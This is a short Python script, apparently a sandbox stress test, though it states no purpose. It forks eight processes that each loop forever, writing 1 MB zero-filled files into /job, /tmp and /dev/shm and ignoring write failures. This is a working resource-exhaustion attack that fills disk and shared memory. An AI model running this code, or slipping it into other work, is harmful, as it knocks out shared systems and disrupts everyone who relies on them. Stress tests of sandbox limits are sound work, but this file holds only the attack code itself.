import os

script = """
while :; do
    for place in /job /tmp /dev/shm; do
        head -c 1000000 /dev/zero > $place/$$.$n || n=x$n
    done
    n=y$n
done
"""
for _ in range(8):
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", script])
os.execv("/bin/sh", ["sh", "-c", script])
